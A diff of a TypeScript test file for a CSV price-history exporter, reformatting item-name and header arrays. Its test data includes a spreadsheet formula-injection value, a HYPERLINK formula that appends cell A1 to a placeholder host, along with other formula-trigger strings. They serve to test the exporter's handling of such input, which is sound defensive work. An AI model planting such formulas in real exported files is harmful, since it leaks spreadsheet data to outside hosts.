@@ -24,7 +24,14 @@ function table(items: string[]): ExportTable {
 const HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")';
 
 describe('price-history CSV', () => {
-  const items = [HOSTILE, 'StatTrak™ AK-47 | Redline (Field-Tested)', '★ Karambit | Fade (Factory New)', '-5% off', '@sum', 'AK-47 | Redline, "Field-Tested"'];
+  const items = [
+    HOSTILE,
+    'StatTrak™ AK-47 | Redline (Field-Tested)',
+    '★ Karambit | Fade (Factory New)',
+    '-5% off',
+    '@sum',
+    'AK-47 | Redline, "Field-Tested"',
+  ];
   const bytes = toCsv(table(items));
 
   it('starts with the UTF-8 byte order mark', () => {
@@ -41,7 +48,17 @@ describe('price-history CSV', () => {
 
   it('reads back (through the one CSV reader) with the same names, non-ASCII included', () => {
     const { records } = readCsv(new TextDecoder().decode(bytes));
-    expect(records[0]!.fields).toEqual(['time_utc', 'time_ms', 'item', 'market', 'side', 'price', 'low', 'high', 'resolution_ms']);
+    expect(records[0]!.fields).toEqual([
+      'time_utc',
+      'time_ms',
+      'item',
+      'market',
+      'side',
+      'price',
+      'low',
+      'high',
+      'resolution_ms',
+    ]);
     expect(records.slice(1).map((r) => r.fields[2])).toEqual(items);
     expect(records.slice(1).map((r) => r.fields[5])).toEqual(items.map((_, i) => String(1_250 + i)));
   });
